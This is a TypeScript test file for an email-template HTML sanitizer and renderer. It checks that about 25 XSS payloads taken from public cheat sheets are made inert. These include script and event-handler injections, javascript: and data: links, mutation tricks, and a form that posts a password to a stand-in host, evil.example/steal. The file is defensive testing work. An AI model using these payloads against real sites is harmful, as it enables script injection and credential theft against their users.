import { describe, expect, it } from "vitest";
import { renderMail } from "./render";
import { htmlToText, sanitizeTemplateHtml } from "./sanitize";
import { unknownVariables } from "./variables";

// Payloads from the OWASP XSS filter evasion cheat sheet and PortSwigger's XSS cheat sheet.
const PAYLOADS: [string, string][] = [
  ["script tag", `<p>Hola</p><script>alert(1)</script>`],
  ["script with src", `<script src="https://evil.example/x.js"></script>`],
  ["img onerror", `<img src="https://x.example/a.png" onerror="alert(1)">`],
  ["body onload", `<body onload="alert(1)">texto</body>`],
  ["svg onload", `<svg onload="alert(1)"><circle r="1"/></svg>`],
  ["svg animate href", `<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>`],
  ["math xlink", `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>`],
  ["javascript: link", `<a href="javascript:alert(1)">pulsa</a>`],
  ["obfuscated javascript: link", `<a href="jav&#x09;ascript:alert(1)">pulsa</a>`],
  ["uppercase JAVASCRIPT: link", `<a href="JaVaScRiPt:alert(1)">pulsa</a>`],
  ["data: link", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">pulsa</a>`],
  ["data: image", `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`],
  ["iframe srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`],
  [
    "external form post",
    `<form action="https://evil.example/steal" method="post"><input name="password"><button>Enviar</button></form>`,
  ],
  ["button formaction", `<button formaction="https://evil.example">x</button>`],
  ["object/embed", `<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">`],
  ["meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.example">`],
  ["style tag", `<style>body{background:url("javascript:alert(1)")}</style>`],
  ["style expression", `<p style="width: expression(alert(1))">x</p>`],
  ["style url", `<p style="background-image: url(https://evil.example/track.png)">x</p>`],
  ["style position overlay", `<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>`],
  ["broken comment", `<!--<img src="--><img src=x onerror=alert(1)//">`],
  ["noscript mutation", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`],
  ["base tag", `<base href="https://evil.example/">`],
  ["link stylesheet", `<link rel="stylesheet" href="https://evil.example/x.css">`],
];

const ACTIVE = [
  /<script/i,
  /\son\w+\s*=/i,
  /javascript:/i,
  /data:/i,
  /<svg/i,
  /<math/i,
  /<form/i,
  /<iframe/i,
  /<object/i,
  /<embed/i,
  /<style/i,
  /<meta/i,
  /<base/i,
  /<link/i,
  /expression\(/i,
  /url\(/i,
  /position/i,
  /formaction/i,
];

describe("sanitizeTemplateHtml", () => {
  it.each(PAYLOADS)("makes %s inert", (_, payload) => {
    const clean = sanitizeTemplateHtml(payload);
    for (const pattern of ACTIVE) expect(clean).not.toMatch(pattern);
  });

  it("keeps ordinary mail HTML, variables and safe styles", () => {
    const html = `<h1>Bienvenido, {{name}}</h1><p style="color: #336699; text-align: center">Tu usuario es <strong>{{ username }}</strong>.</p><a href="https://campus.example/acceso">Acceder</a><table><tr><td>1</td></tr></table>`;
    const clean = sanitizeTemplateHtml(html);
    expect(clean).toContain("<h1>Bienvenido, {{name}}</h1>");
    expect(clean).toContain('style="color:#336699;text-align:center"');
    expect(clean).toContain(
      '<a href="https://campus.example/acceso" target="_blank" rel="noopener noreferrer">Acceder</a>',
    );
    expect(clean).toContain("<td>1</td>");
  });
});

describe("rendering", () => {
  it("HTML-escapes values, so a hostile name stays text", () => {
    const mail = renderMail(
      { title: "Hola {{name}}", text: `<p>Hola {{name}}</p><a href="https://x.example/{{username}}">x</a>` },
      { name: `<img src=x onerror=alert(1)>`, username: `" onmouseover="alert(1)` },
    );
    expect(mail.html).toContain("Hola &lt;img src=x onerror=alert(1)&gt;");
    expect(mail.html).not.toMatch(/<img|onmouseover="/);
    expect(mail.subject).toBe("Hola <img src=x onerror=alert(1)>");
    expect(mail.text).toBe(`Hola <img src=x onerror=alert(1)>\nx`);
  });

  it("turns a list into escaped items", () => {
    const mail = renderMail(
      { title: "Listas", text: "<p>Tus listas:</p>{{list}}" },
      { list: [{ heading: "Álgebra (A-1)", items: ["Pérez, <b>Ana</b>"] }] },
    );
    expect(mail.html).toContain("<p><strong>Álgebra (A-1)</strong></p><ul><li>Pérez, &lt;b&gt;Ana&lt;/b&gt;</li></ul>");
    expect(mail.text).toContain("Álgebra (A-1)\n  - Pérez, <b>Ana</b>");
  });

  it("reports the variables a type does not offer", () => {
    expect(unknownVariables(0, "{{name}} {{ password }} {{list}} {{foo}}")).toEqual(["list", "foo"]);
    expect(unknownVariables(1, "{{list}}")).toEqual([]);
    expect(htmlToText("<p>a &amp; b</p><p>c</p>")).toBe("a & b\nc");
  });
});
